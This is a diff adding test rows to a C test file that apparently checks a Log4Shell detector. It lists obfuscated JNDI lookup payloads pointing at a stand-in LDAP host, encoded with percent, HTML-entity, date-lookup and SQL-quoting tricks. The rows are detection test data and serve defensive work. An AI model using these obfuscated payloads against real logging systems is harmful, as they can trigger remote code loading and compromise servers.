@@ -190,6 +190,9 @@ static void mixed_orders(void **state)
         ROW("%24\\u007bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
         ROW("&#36;%7Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
         ROW("${jndi:ldap&#58;//h.example/a%7D", EXPLOIT, .chain = "percent html"),
+        ROW("${${date:''j''}${date:''n''}${date:''d''}${date:''i''}:ldap://h.example/a}", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "sql"), /* as SQL logs quotes */
+        ROW("SELECT '${jn${date:}di${date:'':''}ldap://h.example/a}'", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "sql"),
+        ROW("SELECT '${jn${date:}di${date:%27%27:%27%27}ldap://h.example/a}'", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "percent sql"),
     };
     (void)state;
     RUN(rows);
